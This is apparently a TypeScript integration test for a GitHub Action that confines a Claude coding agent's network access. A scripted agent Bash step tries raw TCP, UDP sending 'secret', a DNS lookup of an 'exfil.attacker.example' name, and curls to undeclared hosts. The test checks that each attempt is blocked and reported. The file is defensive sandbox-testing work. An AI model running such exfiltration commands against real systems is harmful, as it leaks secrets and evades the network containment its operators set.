/**
 * Issues 27 §3 and 35 §1 through the built action as root, with the real claude, on a PATH
 * without `nft`: the agent's Bash makes a raw TCP connect and a curl to a port on the runner's
 * loopback where a server listens, sends a UDP datagram and a DNS query to servers on the
 * runner's loopback, asks the proxy for an undeclared host, and fetches from a host:port that
 * `allowed-hosts` names. With the network open (the control) the same commands reach the
 * servers; restricted (the default) they reach nothing, every attempt (the name looked up, for
 * DNS) is listed in the job summary and the pull request, the allowed server is reached through
 * the proxy, and the task still completes through the model proxy.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createSocket, type Socket } from 'node:dgram';
import { existsSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import type { ActionRunResult } from '../../test-support/action-runner.js';
import { describeWith } from '../../test-support/privileges.js';
import { workflowDispatchPayload } from '../../test-support/webhooks.js';
import { OWNER, REPO, startActionWorld, type ActionWorld } from '../action/world.js';
import { agentUserNameFor, retireAgentUser } from './attack-kit.js';
import { TASK_1, attackScenario, bash, conversationWith, details } from './git-attack-world.js';

/** A server on the runner's loopback that counts the connections that reached it. */
interface CountingServer {
  port: number;
  connections: () => number;
  close(): void;
}

async function countingServer(answer: string): Promise<CountingServer> {
  let connections = 0;
  const server: Server = createServer((_req, res) => res.end(`${answer}\n`));
  server.on('connection', () => connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as { port: number }).port,
    connections: () => connections,
    close: () => server.close(),
  };
}

/** A UDP server on the runner's loopback that counts the datagrams that reached it. */
interface DatagramSink {
  port: number;
  datagrams: () => number;
  close(): void;
}

async function datagramSink(address: string, port = 0): Promise<DatagramSink> {
  let datagrams = 0;
  const socket: Socket = createSocket('udp4');
  socket.on('message', () => datagrams++);
  await new Promise<void>((resolve) => socket.bind(port, address, resolve));
  return {
    port: socket.address().port,
    datagrams: () => datagrams,
    close: () => socket.close(),
  };
}

/** A DNS server's address on the runner's loopback, port 53 (the test runs as root). */
const DNS_ADDRESS = '127.0.0.86';
const EXFIL_NAME = 'runner-secret.exfil.attacker.example';

/**
 * A PATH without `nft`: the PATH's directories that lack it, and one of links to the tools of
 * those that have it (so `ip` and the rest stay found), nft left out.
 */
function pathWithoutNft(): { path: string; dispose(): void } {
  const shadow = mkdtempSync(join(tmpdir(), 'ralph-no-nft-'));
  const dirs = (process.env.PATH ?? '').split(delimiter).filter(Boolean);
  const kept: string[] = [];
  for (const dir of dirs) {
    if (!existsSync(join(dir, 'nft'))) kept.push(dir);
    else
      for (const tool of ['ip', 'unshare', 'setpriv', 'prlimit', 'useradd', 'userdel'])
        if (existsSync(join(dir, tool)) && !existsSync(join(shadow, tool)))
          symlinkSync(join(dir, tool), join(shadow, tool));
  }
  return {
    path: [...kept, shadow].join(delimiter),
    dispose: () => rmSync(shadow, { recursive: true, force: true }),
  };
}

function attack(target: number, allowed: number, udp: number): string {
  const raw =
    `node -e "require('net').connect(${target},'127.0.0.1')` +
    `.on('connect',()=>{console.log('RAW CONNECTED');process.exit(0)})` +
    `.on('error',e=>{console.log('RAW '+e.code);process.exit(1)})"`;
  const datagram =
    `node -e "const d=require('dgram').createSocket('udp4');` +
    `d.send('secret',${udp},'127.0.0.1',e=>{console.log('UDP SENT');setTimeout(()=>process.exit(0),300)})"`;
  const lookup =
    `node -e "const r=new (require('dns').Resolver)({timeout:1000,tries:1});` +
    `r.setServers(['${DNS_ADDRESS}']);r.resolve4('${EXFIL_NAME}',e=>console.log('DNS '+(e?e.code:'ANSWERED')))"`;
  return [
    'command -v nft || echo "NO NFT"',
    raw,
    datagram,
    lookup,
    `curl -sS -m 10 http://127.0.0.1:${target}/; echo "CURL EXIT $?"`,
    `curl -sS -m 10 -o /dev/null -w "PROXY %{http_code}\\n" http://blocked.example/; echo "PROXIED EXIT $?"`,
    `curl -sS -m 10 --noproxy '' http://127.0.0.1:${allowed}/; echo "ALLOWED EXIT $?"`,
    'echo ATTACKED',
  ].join('; ');
}

// Both modes isolate the agent (`isolation: required`), and the namespace needs root.
describeWith('root')('the agent network through the built action', () => {
  describe.each([
    { network: 'restricted', restricted: true },
    { network: 'open', restricted: false },
  ])('network: $network, the agent connects where it was not allowed', (mode) => {
    let world: ActionWorld;
    let result: ActionRunResult;
    let target: CountingServer;
    let allowed: CountingServer;
    let udp: DatagramSink;
    let dns: DatagramSink;
    let path: ReturnType<typeof pathWithoutNft>;
    let said = '';
    let agentName = '';

    beforeAll(async () => {
      target = await countingServer('target-reached');
      allowed = await countingServer('allowed-reached');
      udp = await datagramSink('127.0.0.1');
      dns = await datagramSink(DNS_ADDRESS, 53);
      path = pathWithoutNft();
      world = await startActionWorld(
        attackScenario({
          before: { [TASK_1]: [bash(attack(target.port, allowed.port, udp.port), 'Fetch')] },
          once: true,
        }),
      );
      agentName = agentUserNameFor(world.project.workspace);
      result = await world.run({
        eventName: 'workflow_dispatch',
        payload: workflowDispatchPayload(OWNER, REPO, {}),
        env: { PATH: path.path },
        inputs: {
          isolation: 'required',
          network: mode.network,
          'allowed-hosts': `defaults, 127.0.0.1:${allowed.port}`,
        },
      });
      said = conversationWith(world.model, 'ATTACKED') ?? '';
    }, 300_000);

    afterAll(async () => {
      await world?.close();
      target?.close();
      allowed?.close();
      udp?.close();
      dns?.close();
      path?.dispose();
      if (agentName) retireAgentUser(agentName);
    });

    test('the task completes through the model proxy', () => {
      expect({ exit: result.exitCode, details: details(result) }).toMatchObject({ exit: 0 });
      expect(world.originSubjects('main..ralph/textkit').some((s) => s.startsWith('feat'))).toBe(
        true,
      );
      expect(said).toContain('ATTACKED');
      expect(said).toContain('NO NFT');
    });

    if (mode.restricted) {
      test('the raw connect and the curl reach nothing: the server saw no connection', () => {
        expect(said).toContain('RAW ECONNREFUSED');
        expect(said).toContain('CURL EXIT 7');
        expect(said).not.toContain('target-reached');
        expect(target.connections()).toBe(0);
      });

      test('the datagram and the DNS query reach nothing', () => {
        expect(said).toContain('UDP SENT');
        expect(said).toContain('DNS ECONNREFUSED');
        expect(udp.datagrams()).toBe(0);
        expect(dns.datagrams()).toBe(0);
      });

      test('the proxy refuses an undeclared host and lets the allowed host:port through', () => {
        expect(said).toContain('PROXY 403');
        expect(said).toContain('allowed-reached');
        expect(allowed.connections()).toBeGreaterThan(0);
      });

      test('every attempt is listed in the job summary and the pull request, with the hint', () => {
        const pull = [...world.github.state.pulls.values()][0]!;
        for (const text of [result.summary, pull.body ?? '']) {
          expect(text).toContain('### Network: 4 blocked destinations');
          expect(text).toMatch(new RegExp(`\`127\\.0\\.0\\.1:${target.port}\` \\| 2 \\| direct`));
          expect(text).toContain(`\`127.0.0.1:${udp.port}\` | 1 | UDP datagram`);
          expect(text).toContain(`\`${EXFIL_NAME}\` | 1 | DNS lookup`);
          expect(text).toContain('`blocked.example:80` | 1 | through the proxy');
          expect(text).toContain('`allowed-hosts`');
        }
        expect(result.summary).not.toContain(`127.0.0.1:${allowed.port}\``);
        expect(result.stdout).toContain('network namespace');
      });
    } else {
      test('the control: with the network open the same commands reach the server', () => {
        expect(said).toContain('RAW CONNECTED');
        expect(said).toContain('target-reached');
        expect(target.connections()).toBeGreaterThanOrEqual(2);
        expect(udp.datagrams()).toBe(1);
        expect(dns.datagrams()).toBeGreaterThanOrEqual(1);
        expect(result.summary).not.toContain('### Network');
      });
    }
  });
});
